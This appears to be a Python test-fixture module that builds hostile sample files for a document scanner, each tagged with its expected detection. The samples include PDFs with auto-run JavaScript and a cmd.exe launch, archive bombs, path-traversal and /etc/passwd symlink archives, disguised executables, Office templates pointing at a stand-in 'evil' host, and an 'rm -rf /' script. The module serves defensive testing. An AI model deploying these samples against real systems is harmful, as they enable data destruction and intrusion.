"""Documents that somebody means ill with. Each is made here; none is stored in the repository."""

import struct
import tarfile
import zlib

from . import archives
from .threats import EXE, HTML, PDF, PHP, document


def pages_as_documents():
    """What a browser or a server would run."""
    yield document("page", "page.html", HTML, "extension")
    yield document("page", "shell.php", PHP, "extension")
    yield document("page", "page.txt", b"  \n" + HTML, "executable")
    yield document("page", "shell.csv", PHP, "executable")
    yield document("page", "script.txt", b"#!/bin/sh\nrm -rf /", "executable")
    yield document(
        "page", "utf16.txt", "\ufeff<script>alert(1)</script>".encode("utf-16-le"), "executable"
    )
    yield document("page", "binary.txt", b"text\0\1\2\3", "not_text")
    yield document("page", "program.csv", EXE, "executable")
    yield document("page", "page.ics", b"hello", "wrong_type")


def portable_documents():
    js = b"3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj"
    hidden = zlib.compress(b"3 0 <</S/JavaScript/JS(app.alert(1))>>")
    listed = (
        b"3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj"
        % (len(hidden), hidden)
    )
    good = PDF % (b"", b"")
    yield document("pdf", "script.pdf", PDF % (b"/OpenAction 3 0 R", js), "pdf_script")
    yield document(
        "pdf",
        "spelled.pdf",
        PDF % (b"/OpenAction 3 0 R", js.replace(b"/JavaScript", b"/J#61vaScr#69pt")),
        "pdf_script",
    )
    yield document(
        "pdf", "launch.pdf", PDF % (b"/OpenAction<</S/Launch/F(cmd.exe)>>", b""), "pdf_script"
    )
    yield document("pdf", "hidden.pdf", PDF % (b"/OpenAction 3 0 R", listed), "pdf_script")
    yield document(
        "pdf",
        "hidden-by-two-filters.pdf",
        PDF
        % (
            b"/OpenAction 3 0 R",
            listed.replace(b"/FlateDecode", b"[/ASCIIHexDecode/FlateDecode]").replace(
                hidden, hidden.hex().encode()
            ),
        ),
        "pdf_script",
    )
    yield document(
        "pdf",
        "hidden-on-a-mac.pdf",
        PDF % (b"/OpenAction 3 0 R", listed.replace(b"stream\n", b"stream\r", 1)),
        "pdf_script",
    )
    late = zlib.compress(b" " * (17 << 20) + b"<</S/JavaScript/JS(app.alert(1))>>")
    yield document(
        "pdf",
        "hidden-behind-spaces.pdf",
        PDF % (b"/OpenAction 3 0 R", listed.replace(hidden, late)),
        "pdf_script",
    )
    crowd = b"%/ObjStm\n" * 5000 + b"%" + b" " * 3000 + b"\n"
    yield document(
        "pdf",
        "hidden-in-a-crowd.pdf",
        PDF % (b"/OpenAction 3 0 R", crowd + listed),
        "pdf_script",
    )
    yield document("pdf", "page.pdf", HTML, "wrong_type")
    yield document("pdf", "html-behind.pdf", good + HTML * 5, "damaged")
    yield document("pdf", "archive.pdf", good + archives.zipped({"a.txt": "a"}), "damaged")
    packed = archives.zipped({"a.txt": "a"})
    packed = packed[:-2] + struct.pack("<H", 6) + b"%%EOF\n"
    yield document("pdf", "archive-within.pdf", good[:-6] + packed, "polyglot")
    yield document("pdf", "half.pdf", good[:60], "damaged")


def zips():
    zipped = archives.zipped
    yield document("archive", "zeros.zip", zipped({"zeros.txt": bytes(11_000_000)}), "archive_bomb")
    yield document("archive", "overlapping.zip", archives.overlapping(), "archive_bomb")
    yield document("archive", "lying.zip", archives.lying_about_size(), "damaged")
    yield document("archive", "nested.zip", archives.nested(6), "archive_nested")
    yield document(
        "archive",
        "nested-zeros.zip",
        zipped({f"{n}.zip": zipped({"z": bytes(3_000_000)}) for n in range(5)}),
        "archive_bomb",
    )
    yield document(
        "archive", "many.zip", zipped({f"{n}.txt": "" for n in range(6000)}), "archive_entries"
    )
    yield document("archive", "traversal.zip", zipped({"../../etc/cron.d/x": "x"}), "archive_path")
    yield document("archive", "backslash.zip", zipped({"..\\..\\x.txt": "x"}), "archive_path")
    yield document("archive", "absolute.zip", zipped({"/etc/passwd": "x"}), "archive_path")
    yield document("archive", "drive.zip", zipped({"C:/Windows/x.txt": "x"}), "archive_path")
    yield document(
        "archive",
        "link.zip",
        zipped({"x": "/etc/passwd"}, external_attr=0o120777 << 16),
        "archive_link",
    )
    yield document(
        "archive", "secret.zip", archives.with_flag(zipped({"a.txt": "a"}), 1), "encrypted"
    )
    yield document("archive", "program.zip", zipped({"invoice.pdf.exe": EXE}), "archive_program")
    yield document(
        "archive", "renamed-program.zip", zipped({"invoice.dat": EXE}), "archive_program"
    )
    yield document(
        "archive", "dotted-program.zip", zipped({"invoice.vbs.": "MsgBox 1"}), "archive_program"
    )
    yield document(
        "archive",
        "another-kind-within.zip",
        zipped({"a.7z": b"7z\xbc\xaf\x27\x1c" + bytes(60)}),
        "archive_nested",
    )
    yield document(
        "archive",
        "large-directory.zip",
        archives.with_zip64_end(zipped({"a.txt": "a"}), directory_bytes=1 << 30),
        "archive_entries",
    )
    yield document("archive", "disguised.zip", zipped({"photo.jpg": HTML}), "archive_wrong_type")
    yield document("archive", "behind.zip", zipped({"a.txt": "a"}) + HTML, "damaged")
    yield document("archive", "in-front.zip", HTML + zipped({"a.txt": "a"}), "wrong_type")
    yield document("archive", "half.zip", zipped({"a.txt": "a" * 999})[:-30], "damaged")


def offices():
    docx, odt = archives.docx, archives.odt
    yield document("office", "macros.docx", docx(**{"word/vbaProject.bin": b"\xd0\xcf"}), "macros")
    yield document("office", "basic.odt", odt(**{"Basic/script-lc.xml": "<a/>"}), "macros")
    template = '<Relationship Type="http://schemas/attachedTemplate" Target="//evil/x.dotm" TargetMode="External"/>'
    yield document(
        "office", "template.docx", docx(**{"word/_rels/settings.xml.rels": template}), "macros"
    )
    yield document(
        "office",
        "template-by-another-name.docx",
        docx(**{"word/_rels/x.xml.rels": template.replace('"', "'").encode("utf-16")}),
        "macros",
    )
    linked = template.replace("attachedTemplate", "oleObject").replace("//evil", "https://evil")
    yield document(
        "office", "object.docx", docx(**{"word/_rels/document.xml.rels": linked}), "macros"
    )
    enabled = archives.TYPES.replace("wordprocessingml.document.main", "macro&#69;nabled.main")
    yield document(
        "office",
        "late-macros.docx",
        docx(**{"[Content_Types].xml": enabled.replace("?>", f"?><!--{' ' * 2_000_000}-->", 1)}),
        "macros",
    )
    yield document(
        "office",
        "entities-in-utf16.docx",
        docx(**{"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")}),
        "xml_entities",
    )
    yield document(
        "office",
        "entities-behind-a-comment.docx",
        docx(
            **{
                "word/a.xml": f"<!--{' ' * 2_000_000}-->" + '<!DOCTYPE a [<!ENTITY b "c">]><a/>',
            }
        ),
        "xml_entities",
    )
    yield document(
        "office",
        "entities.docx",
        docx(**{"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}),
        "xml_entities",
    )
    yield document("office", "archive.key", archives.zipped({"a.txt": "a"}), "wrong_type")
    yield document("office", "archive.docx", archives.zipped({"a.txt": "a"}), "wrong_type")
    yield document("office", "other.odt", odt("application/zip"), "wrong_type")
    yield document(
        "office", "zeros.docx", docx(**{"word/media/a": bytes(11_000_000)}), "archive_bomb"
    )
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
    yield document(
        "office", "macros.doc", ole + "_VBA_PROJECT".encode("utf-16-le") + bytes(50), "macros"
    )
    yield document("office", "object.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "macros")


def tapes():
    tarred, regular = archives.tarred, archives.regular
    yield document("tar", "traversal.tar", tarred(regular("../x.txt", b"x")), "archive_path")
    yield document(
        "tar", "link.tar", tarred(("x", b"", tarfile.SYMTYPE, "/etc/passwd")), "archive_link"
    )
    yield document(
        "tar",
        "hard-link.tar",
        tarred(regular("a", b"a"), ("x", b"", tarfile.LNKTYPE, "a")),
        "archive_link",
    )
    yield document("tar", "device.tar", tarred(("x", b"", tarfile.CHRTYPE, "")), "archive_device")
    yield document("tar", "program.tar", tarred(regular("a.pdf", EXE)), "archive_program")
    yield document("tar", "zeros.gz", archives.gzipped(bytes(11_000_000)), "archive_bomb")
    yield document(
        "tar",
        "zeros.tgz",
        archives.gzipped(tarred(regular("z.txt", bytes(11_000_000)))),
        "archive_bomb",
    )
    yield document(
        "tar",
        "many.tgz",
        archives.gzipped(tarred(*(regular(f"{n}", b"") for n in range(6000)))),
        "archive_entries",
    )
    yield document("tar", "half.tar", tarred(regular("a.txt", b"a" * 3000))[:1024], "damaged")
